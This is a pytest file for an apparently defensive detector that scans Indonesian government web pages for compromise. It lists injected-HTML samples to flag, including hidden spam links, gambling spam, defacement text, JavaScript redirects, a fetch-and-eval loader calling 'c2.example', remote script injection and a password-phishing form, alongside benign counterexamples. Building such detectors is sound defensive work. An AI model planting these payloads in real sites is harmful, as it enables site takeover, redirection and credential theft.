"""Small pieces of pages, looked at for the first time: what is suspicious in itself, and what is not."""

from __future__ import annotations

import pytest

from bot.sitewatch.foreign import inspect, learn
from bot.sitewatch.page import read
from bot.sitewatch.unfold import unfold
from tests.sitewatch.samples import CLEAN, HACKED

URL = "https://www.nusaraya.go.id/"
A = "https://hiburan-kita.example/"

SUSPICIOUS = {
    "setAttribute": (
        "<a id=x></a><script>var d=document;var s=d.createElement('script');s.setAttribute('src','h"
        "ttps://'+'cdn'+'.jahat.example/x.js');d.head.appendChild(s)</script>"
    ),
    "clip": f"<div style='position:absolute;clip:rect(0,0,0,0)'><a href='{A}'>mitra</a></div>",
    "clip2": f"<div style='position:absolute !important;clip:rect(1px,1px,1px,1px)'><a href='{A}'>mitra</a></div>",
    "scale": f"<div style='transform: scale(0)'><a href='{A}'>mitra</a></div>",
    "vis": f"<span style='visibility:hidden'><a href='{A}'>x</a></span>",
    "opacity .01": f"<div style='opacity:.01'><a href='{A}'>x</a></div>",
    "zindex": f"<div style='position:absolute;z-index:-9999'><a href='{A}'>x</a></div>",
    "top em": f"<div style='position:fixed;top:-100em'><a href='{A}'>x</a></div>",
    "left vw": f"<div style='position:absolute;left:-100vw'><a href='{A}'>x</a></div>",
    "percent": f"<div style='position:absolute;left:-500%'><a href='{A}'>x</a></div>",
    "hidden attr": f"<div hidden><a href='{A}'>x</a></div>",
    "obj": f"<object data='{A}' width=0 height=0></object>",
    "embed": f"<embed src='{A}' style='display:none'>",
    "iframe js": (
        f"<script>var i=document.createElement('iframe');i.src='{A}';i.style.display='none';document"
        ".body.appendChild(i)</script>"
    ),
    "title jp": "<title>激安ブランド通販 ロレックス コピー</title>",
    "slot text": "<p>Rekomendasi slot gampang menang malam ini</p>",
    "togel": "<p>Data HK dan keluaran SGP hari ini, prediksi togel jitu</p>",
    "h1": "<h1>Slot Thailand</h1>",
    "hidden words": "<div style='display:none'>judi online terpercaya slot88 togel</div>",
    "option": "<noscript><a href='https://x1.example/'>slot online</a></noscript>",
    "json": '<script type="application/ld+json">{"@type":"Organization","name":"BOSSLOT88 Login"}</script>',
    "amp": '<link rel="amphtml" href="https://amp-rajatoto.example/">',
    "canon": '<link rel="canonical" href="https://slotgacor.example/">',
    "hreflang": '<link rel="alternate" hreflang="id" href="https://gacor77.example/">',
    "refresh delayed": f"<meta http-equiv='Refresh' content=\"5; URL='{A}'\">",
    "js self": f"<script>self.location='{A}'</script>",
    "js parent": f"<script>parent.location.href = '{A}';</script>",
    "js top attr": f"<script>window['location']['replace']('{A}')</script>",
    "js assign var": f"<script>const u='{A}';document.location.assign(u)</script>",
    "js template": "<script>const h='hiburan';location.href=`https://${h}-kita.example/`</script>",
    "js document.location in onload": f"<body onload=\"document.location='{A}'\">",
    "anchor click": f"<script>var a=document.createElement('a');a.href='{A}';a.click()</script>",
    "meta by script": f'<script>document.write(\'<meta http-equiv="refresh" content="0;url={A}">\')</script>',
    "svg onload": f"<svg onload=\"location='{A}'\"></svg>",
    "fetch eval": "<script>fetch('https://c2.example/a').then(r=>r.text()).then(eval)</script>",
    "jquery load": "<script>$.getScript('https://gacor.example/x.js')</script>",
    "form phish": "<form action='https://login-bank.xyz/'><input type=password></form>",
    "telegram phish brand": f"<a href='{A}'>Link Alternatif JOKER123</a>",
    "brand img": "<a href='https://bit.ly/abc'><img src='/x.png' alt='DEWA138 slot'></a>",
    "crypto": "<p>Elon Musk BTC giveaway: send 0.1 BTC receive 0.2 BTC back</p>",
    "porn link": "<a href='https://xxxvideos.example/'>video</a>",
    "obat": "<a href='https://x.example/'>Jual obat aborsi cytotec asli</a>",
    "pinjol": "<p>Pinjaman online langsung cair tanpa BI checking</p>",
    "judi bahasa": "<p>Main judi bola, togel, kasino online, poker bersama bandar terpercaya</p>",
    "thai": "<title>สล็อตเว็บตรง แตกง่าย</title>",
    "vandal2": "<title>[ HACKED ] by AnonGhost</title>",
    "vandal3": "<h1>Pwned By Black Hat</h1>",
    "vandal4": "<body><h2>Your system has been hacked</h2><p>Patch your system admin!</p></body>",
    "vandal5": "<title>./Mr.Cakil was here</title><p>H4CK3D BY Mr Cakil</p>",
}

INNOCENT = {
    "gt": (
        "<div id='google_translate_element' style='display:none'></div><script>function googleTrans"
        "lateElementInit(){}</script><script src='https://translate.google.com/translate_a/element."
        "js'></script>"
    ),
    "elementor": (
        "<div class='elementor-hidden-desktop' style='display:none'><a href='https://themeforest.example/'>x</a></div>"
    ),
    "credit": "<footer><a href='https://webmedia-nusantara.com'>Web Media Nusantara</a></footer>",
    "skip": "<a class='skip-link' style='position:absolute;left:-9999px' href='#main'>x</a>",
    "tw": (
        "<blockquote class='twitter-tweet'><a href='https://twitter.com/a'>x</a></blockquote><scrip"
        "t src='https://platform.twitter.com/widgets.js'></script>"
    ),
    "ig": "<script async src='//www.instagram.com/embed.js'></script>",
    "slotfood": "<p>Kuota 20 slot per hari, daftar slot antrean di loket</p>",
    "bola": "<p>Turnamen bola voli, daftar sekarang. Bonus untuk juara.</p>",
    "bpjs": "<a href='https://daftar.bpjs-kesehatan.go.id/'>Daftar 168</a>",
    "hotline": "<a href='tel:119'>119</a> <a href='/'>Lapor 168</a>",
    "asia": "<h3>Asia Africa Carnival 2026</h3>",
    "juara": "<a href='/x'>Juara Liga 1 U-17</a>",
    "dewi": "<a href='/x'>Dewi Sartika 77 tahun</a>",
    "raja": "<a href='/x'>Raja Ampat</a> <a href='/y'>Pulau Naga 88 ha</a>",
    "pinjaman": "<p>Pinjaman KUR untuk UMKM tanpa agunan, syarat KTP dan NPWP</p>",
    "ketoto": "<a href='https://ototojaya.com/'>Ototo Jaya</a>",
    "betawi": "<a href='https://betawi.example/'>Lebaran Betawi</a>",
    "essen": "<a href='https://mahkamahagung.go.id/'>Judicial review</a>",
    "kasino": "<p>Komedian Kasino Warkop dikenang</p>",
    "gambling law": "<a href='/perda'>Perda Nomor 5 tentang Larangan Perjudian</a>",
    "cf": (
        "<script>(function(){window.__CF$cv$params={r:'1',t:'MTc='};var a=document.createElement('s"
        "cript');a.src='/cdn-cgi/x.js';document.getElementsByTagName('head')[0].appendChild(a);})()"
        ";</script>"
    ),
    "lazy": "<iframe data-src='https://www.youtube.com/embed/x' src='about:blank'></iframe>",
    "pixel": "<noscript><img height=1 width=1 style='display:none' src='https://www.facebook.com/tr?id=1'/></noscript>",
    "redirect mobile": (
        "<script>if(navigator.userAgent.match(/Android/)){window.location='https://m.nusaraya.go.id/'}</script>"
    ),
    "https upgrade": (
        "<script>if(location.protocol!='https:'){location.href='https://'+location.host+location.pathname}</script>"
    ),
    "owned": "<p>BUMD (owned by the regional government)</p>",
    "owned2": "<footer><div>Copyright 2026. Owned by Pemkab X. Powered by Joomla</div></footer>",
    "owned3": "<h3>Perusahaan owned by rakyat</h3><p>" + "kata " * 80 + "</p>",
    "touched": "<p>We were deeply touched by the visit of the children</p>",
    "atob": "<script>var d=JSON.parse(atob('eyJhIjoxfQ=='));</script>",
    "mhnya": "<p>Bonus demografi dan free spin pada kegiatan literasi</p>",
    "live": "<a href='https://radio.example/live'>Live 88.8 FM</a>",
    "bonus": "<p>Bonus atlet PON cair</p>",
    "pasar": "<p>Harga cabai 77 ribu di Pasar Gacor</p>",
    "burung": "<p>Lomba burung gacor piala bupati</p>",
}


REST = "<p>Layanan warga dibuka pukul 08.00 sampai 15.00 setiap hari kerja di kantor dinas.</p>"
#: States of a website that have nothing else on the page.
WHOLE = ("deface", "parked", "default", "suspended", "webshell", "index of")


def found(html: str) -> list[str]:
    view = read(html, URL)
    return [f"{each.what}: {each.quote}" for each in inspect(view, (), learn(view))]


@pytest.mark.parametrize("name", SUSPICIOUS)
def test_what_is_suspicious_in_itself_is_found_at_the_first_look(name: str) -> None:
    assert found(SUSPICIOUS[name])


@pytest.mark.parametrize("name", HACKED)
def test_further_samples_are_found_at_the_first_look(name: str) -> None:
    assert found(HACKED[name] + ("" if name.startswith(WHOLE) else REST))


@pytest.mark.parametrize("name", CLEAN)
def test_what_only_looks_like_it_is_no_finding(name: str) -> None:
    assert found(CLEAN[name] + REST) == []


@pytest.mark.parametrize("name", INNOCENT)
def test_what_offices_have_is_no_finding(name: str) -> None:
    assert found(INNOCENT[name]) == []


@pytest.mark.parametrize(
    "code",
    [
        "var a='https://';var b='x.example';location=a+b",
        "location=String.fromCharCode(104,116,116,112,115,58,47,47,120,46,101,120,97,109,112,108,101)",
        "location='elpmaxe.x//:sptth'.split('').reverse().join('')",
        "location=atob('aHR0cHM6Ly94LmV4YW1wbGU=')",
        "location='hXXps://x.example'.replace(/XX/,'tt')",
        "var q=['.example','https://','x'];location=q[1]+q[2]+q[0x0]",
        "let u='https:';u+='//';u+='x.example';location.replace(u)",
    ],
)
def test_an_address_in_pieces_is_put_together(code: str) -> None:
    assert "https://x.example" in unfold(code)
